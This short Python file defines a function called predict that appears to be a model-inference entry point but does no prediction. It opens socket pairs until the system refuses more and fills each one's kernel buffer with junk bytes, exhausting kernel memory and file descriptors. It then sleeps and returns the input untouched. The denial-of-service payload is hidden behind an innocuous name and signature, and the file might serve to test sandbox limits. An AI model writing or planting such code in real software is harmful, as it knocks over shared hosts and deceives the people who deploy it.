"""Messages that nobody reads: the kernel's memory, and no process's."""

import contextlib
import socket
import time

import pandas as pd


def predict(live_features: pd.DataFrame) -> pd.DataFrame:
    held = []
    with contextlib.suppress(OSError):
        while True:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        end.send(bytes(50_000))
    time.sleep(2)
    return live_features
